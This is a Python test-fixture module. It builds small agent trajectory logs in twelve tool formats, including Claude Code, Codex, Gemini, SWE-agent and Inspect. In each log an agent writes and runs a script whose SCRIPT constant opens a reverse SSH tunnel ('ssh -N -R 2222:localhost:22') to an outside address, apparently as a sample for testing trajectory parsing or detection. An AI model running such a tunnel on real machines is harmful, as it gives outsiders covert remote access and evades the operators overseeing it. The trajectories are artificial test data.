"""Small trajectories in every format, field by field as the tools write them; each writes a file and runs it."""

from __future__ import annotations

import json
from collections.abc import Callable

SCRIPT = "import os\nos.system('ssh -N -R 2222:localhost:22 ops@203.0.113.5')\n"
RUN = "python /work/job.py"
TIME = "2026-03-01T10:00:02.125Z"
NANOSECONDS = 1_772_359_202_125_000_000


def lines(*objects: object) -> str:
    """Write JSON Lines."""
    return "".join(json.dumps(each) + "\n" for each in objects)


def claude() -> str:
    """Claude Code's session file."""
    shared = {"sessionId": "s-1", "cwd": "/work", "version": "2.1.330", "timestamp": TIME, "isSidechain": False}

    def turn(id_: str, name: str, given: dict[str, object]) -> dict[str, object]:
        content = [
            {"type": "text", "text": "```bash\nssh talk\n```"},
            {"type": "tool_use", "id": id_, "name": name, "input": given},
        ]
        return {**shared, "type": "assistant", "uuid": f"u-{id_}", "message": {"role": "assistant", "content": content}}

    return lines(
        {"type": "queue-operation", "operation": "enqueue", "timestamp": TIME, "sessionId": "s-1"},
        {**shared, "type": "user", "uuid": "u-0", "message": {"role": "user", "content": "go"}},
        turn("toolu_1", "Write", {"file_path": "/work/job.py", "content": SCRIPT}),
        {**shared, "type": "user", "message": {"content": [{"type": "tool_result", "tool_use_id": "toolu_1"}]}},
        turn("toolu_1", "Write", {"file_path": "/work/job.py", "content": SCRIPT}),
        turn("toolu_2", "Bash", {"command": RUN, "description": "run"}),
        turn("toolu_3", "Read", {"file_path": "/work/job.py"}),
    )


def codex() -> str:
    """Codex's rollout file."""
    patch = (
        "*** Begin Patch\n*** Add File: job.py\n"
        + "".join(f"+{line}\n" for line in SCRIPT.splitlines())
        + "*** End Patch"
    )

    def item(payload: dict[str, object]) -> dict[str, object]:
        return {"timestamp": TIME, "type": "response_item", "payload": payload}

    return lines(
        {
            "timestamp": TIME,
            "type": "session_meta",
            "payload": {"id": "s-1", "cwd": "/work", "originator": "codex_exec"},
        },
        {"timestamp": TIME, "type": "event_msg", "payload": {"type": "user_message", "message": "go"}},
        item({"type": "custom_tool_call", "name": "apply_patch", "input": patch, "call_id": "call_1"}),
        item({"type": "custom_tool_call_output", "call_id": "call_1", "output": "Done"}),
        item(
            {
                "type": "function_call",
                "name": "exec_command",
                "arguments": json.dumps({"cmd": RUN}),
                "call_id": "call_2",
            }
        ),
        {"timestamp": TIME, "type": "event_msg", "payload": {"type": "exec_command_begin", "call_id": "call_2"}},
    )


def gemini() -> str:
    """Gemini's chat file: each line with the same id replaces the one before."""
    write = {"id": "w-1", "name": "write_file", "args": {"file_path": "/work/job.py", "content": SCRIPT}}
    run = {"id": "r-1", "name": "run_shell_command", "args": {"command": RUN}}
    return lines(
        {"sessionId": "s-1", "projectHash": "ab", "startTime": TIME, "kind": "main"},
        {"id": "1", "timestamp": TIME, "type": "user", "content": [{"text": "go"}]},
        {"id": "2", "timestamp": TIME, "type": "gemini", "content": ""},
        {"id": "2", "timestamp": TIME, "type": "gemini", "content": "", "toolCalls": [write]},
        {"id": "2", "timestamp": TIME, "type": "gemini", "content": "", "toolCalls": [{**write, "status": "success"}]},
        {"id": "3", "timestamp": TIME, "type": "gemini", "content": "", "toolCalls": [run]},
        {"$set": {"lastUpdated": TIME}},
    )


def qwen() -> str:
    """Qwen Code's chat file."""

    def turn(id_: str, name: str, given: dict[str, object]) -> dict[str, object]:
        parts = [{"text": "ok"}, {"functionCall": {"id": id_, "name": name, "args": given}}]
        message = {"role": "model", "parts": parts}
        return {
            "uuid": id_,
            "sessionId": "s-1",
            "timestamp": TIME,
            "type": "assistant",
            "cwd": "/work",
            "message": message,
        }

    return lines(
        {"uuid": "u", "sessionId": "s-1", "timestamp": TIME, "type": "user", "message": {"parts": [{"text": "go"}]}},
        turn("c-1", "write_file", {"file_path": "/work/job.py", "content": SCRIPT}),
        {"sessionId": "s-1", "type": "tool_result", "message": {"parts": [{"functionResponse": {"id": "c-1"}}]}},
        turn("c-2", "run_shell_command", {"command": RUN, "is_background": False}),
    )


def copilot() -> str:
    """Copilot's event file."""

    def start(id_: str, name: str, given: dict[str, object]) -> dict[str, object]:
        data = {"toolCallId": id_, "toolName": name, "arguments": given}
        return {"type": "tool.execution_start", "data": data, "id": f"e-{id_}", "timestamp": TIME, "parentId": None}

    return lines(
        {"type": "session.start", "data": {"sessionId": "s-1", "context": {"cwd": "/work"}}, "timestamp": TIME},
        start("t-1", "create", {"path": "/work/job.py", "file_text": SCRIPT}),
        {"type": "tool.execution_complete", "data": {"toolCallId": "t-1", "success": True}, "timestamp": TIME},
        start("t-2", "bash", {"command": RUN, "sessionId": "x"}),
    )


def openhands() -> str:
    """OpenHands' events, here as one file."""

    def event(id_: str, tool: str, action: dict[str, object]) -> dict[str, object]:
        arguments = json.dumps({name: value for name, value in action.items() if name != "kind"})
        call = {"id": id_, "name": tool, "arguments": arguments, "origin": "completion"}
        return {
            "kind": "ActionEvent", "id": f"e-{id_}", "timestamp": "2026-03-01T10:00:02.125000", "source": "agent",
            "action": action, "tool_name": tool, "tool_call_id": id_, "tool_call": call,
        }  # fmt: skip

    return lines(
        {"kind": "SystemPromptEvent", "id": "e-0", "timestamp": "2026-03-01T10:00:01", "source": "agent"},
        event(
            "c-1",
            "file_editor",
            {"kind": "FileEditorAction", "command": "create", "path": "/work/job.py", "file_text": SCRIPT},
        ),
        {"kind": "ObservationEvent", "id": "e-2", "timestamp": "2026-03-01T10:00:02", "tool_call_id": "c-1"},
        event("c-2", "terminal", {"kind": "TerminalAction", "command": RUN, "is_input": False}),
    )


def atif() -> str:
    """ATIF 1.6, with a step copied from another trajectory and a subagent."""

    def step(number: int, name: str, given: dict[str, object]) -> dict[str, object]:
        call = {"tool_call_id": f"c-{number}", "function_name": name, "arguments": given}
        return {"step_id": number, "timestamp": TIME, "source": "agent", "message": "", "tool_calls": [call]}

    copied = {**step(1, "bash", {"command": "ssh copied"}), "is_copied_context": True}
    nested = {
        "schema_version": "ATIF-v1.6",
        "trajectory_id": "sub",
        "agent": {"name": "x"},
        "steps": [step(1, "bash", {"command": "ls sub"})],
    }
    return json.dumps(
        {
            "schema_version": "ATIF-v1.6",
            "session_id": "s-1",
            "agent": {"name": "terminus-2", "version": "1"},
            "steps": [
                {"step_id": 0, "source": "user", "message": "go"},
                copied,
                step(2, "write_file", {"path": "/work/job.py", "content": SCRIPT}),
                step(3, "bash_command", {"keystrokes": RUN + "\n", "duration": 1.0}),
            ],
            "subagent_trajectories": [nested],
        }
    )


def swe_agent() -> str:
    """SWE-agent's `.traj`."""
    quoted = "'" + SCRIPT.replace("'", "'\"'\"'") + "'"
    steps = [
        {"action": f"str_replace_editor create /work/job.py --file_text {quoted}", "observation": "ok", "thought": ""},
        {"action": RUN, "observation": "", "thought": "run it", "execution_time": 0.2},
        {"action": "submit", "observation": "", "thought": ""},
    ]
    return json.dumps({"trajectory": steps, "history": [], "info": {"exit_status": "submitted"}})


def mini_swe_agent() -> str:
    """mini-swe-agent's trajectory: one command per step, files written by here-documents."""

    def turn(command: str) -> dict[str, object]:
        extra = {"actions": [{"command": command, "tool_call_id": "c"}], "timestamp": NANOSECONDS / 1e9}
        return {"role": "assistant", "content": "", "extra": extra}

    write = f"cat > /work/job.py <<'EOF'\n{SCRIPT}EOF"
    messages = [
        {"role": "system", "content": "x"},
        turn(write),
        {"role": "tool", "content": "", "extra": {"returncode": 0}},
        turn(RUN),
    ]
    return json.dumps({"info": {}, "messages": messages, "trajectory_format": "mini-swe-agent-1.1"})


def inspect_log() -> str:
    """Inspect's log as JSON: the tool events, with what is long kept as an attachment."""

    def event(id_: str, name: str, given: dict[str, object]) -> dict[str, object]:
        return {
            "event": "tool",
            "id": id_,
            "function": name,
            "arguments": given,
            "timestamp": "2026-03-01T11:00:02.125+01:00",
        }

    sample = {
        "id": "a",
        "epoch": 1,
        "attachments": {"f00": SCRIPT},
        "messages": [],
        "events": [
            {"event": "model", "timestamp": TIME},
            event("c-1", "text_editor", {"command": "create", "path": "/work/job.py", "file_text": "attachment://f00"}),
            event("c-2", "bash", {"cmd": RUN}),
        ],
    }
    return json.dumps({"version": 2, "status": "success", "eval": {"run_id": "r-1", "task": "t"}, "samples": [sample]})


def openai() -> str:
    """A row of OpenAI messages."""

    def call(id_: str, name: str, given: dict[str, object]) -> dict[str, object]:
        function = {"name": name, "arguments": json.dumps(given)}
        return {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": id_, "type": "function", "function": function}],
        }

    messages = [
        {"role": "user", "content": "go"},
        call("c-1", "write_file", {"path": "/work/job.py", "content": SCRIPT}),
        {"role": "tool", "tool_call_id": "c-1", "content": "ok"},
        call("c-2", "execute_bash", {"command": RUN}),
    ]
    return lines({"id": "row-1", "messages": messages})


def sharegpt() -> str:
    """A row of ShareGPT: calls as text, with no id and no time."""
    write = {"name": "write_file", "arguments": {"path": "/work/job.py", "content": SCRIPT}}
    run = {"name": "bash", "arguments": {"command": RUN}}
    turns = [
        {"from": "human", "value": "go"},
        {"from": "function_call", "value": json.dumps(write)},
        {"from": "observation", "value": "ok"},
        {"from": "gpt", "value": f"Now.\n<tool_call>\n{json.dumps(run)}\n</tool_call>"},
    ]
    return lines({"id": "row-1", "conversations": turns})


# Format, file name, writer, whether it keeps time, whether the zone is assumed.
FORMATS: tuple[tuple[str, str, Callable[[], str], bool, bool], ...] = (
    ("claude", "session.jsonl", claude, True, False),
    ("codex", "rollout-1.jsonl", codex, True, False),
    ("gemini", "session-1.jsonl", gemini, True, False),
    ("qwen", "1.jsonl", qwen, True, False),
    ("copilot", "events.jsonl", copilot, True, False),
    ("openhands", "events.jsonl", openhands, True, True),
    ("atif", "trajectory.json", atif, True, False),
    ("swe-agent", "a.traj", swe_agent, False, False),
    ("mini-swe-agent", "a.traj.json", mini_swe_agent, True, False),
    ("inspect", "log.json", inspect_log, True, False),
    ("openai", "chat.jsonl", openai, False, False),
    ("sharegpt", "chat.jsonl", sharegpt, False, False),
)
